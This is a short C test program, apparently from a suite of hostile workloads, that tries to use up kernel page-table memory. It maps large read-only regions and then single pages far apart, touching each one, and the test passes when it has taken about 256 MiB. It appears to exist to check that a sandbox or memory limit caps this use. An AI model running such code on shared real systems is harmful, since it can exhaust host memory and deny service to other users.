/* Takes page tables: reads memory that it never writes, in large pieces and then page by page, each far from the last. */
#include "../hostile.h"

#define MEMORY (256ul << 20)
#define PAGE 4096ul
#define TABLE (2ul << 20)
#define FAR (1ul << 30)

static unsigned long taken;

static char *map(char *at, unsigned long size) {
    int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | (at ? MAP_FIXED_NOREPLACE : 0);
    return mmap(at, size, PROT_READ, flags, -1, 0);
}

static void in_large_pieces(void) {
    unsigned long size = 1ul << 40, at;
    while (size >= TABLE && taken < MEMORY / 2) {
        volatile char *piece = map(0, size);
        if (piece == MAP_FAILED) {
            size /= 2;
            continue;
        }
        for (at = 0; at < size && taken < MEMORY / 2; at += TABLE, taken += PAGE)
            (void)piece[at];
    }
}

static void page_by_page(void) {
    char *at = (char *)(1ul << 40);
    for (; taken < MEMORY; at += FAR, taken += 2 * PAGE) {
        volatile char *page = map(at, PAGE);
        if (page == MAP_FAILED)
            return;
        (void)page[0];
    }
}

static void attack(void) {
    in_large_pieces();
    page_by_page();
    say("took %lu MiB of page tables", taken >> 20);
    tell_strictly("all the page tables it wants", taken >= MEMORY ? 0 : -1);
}
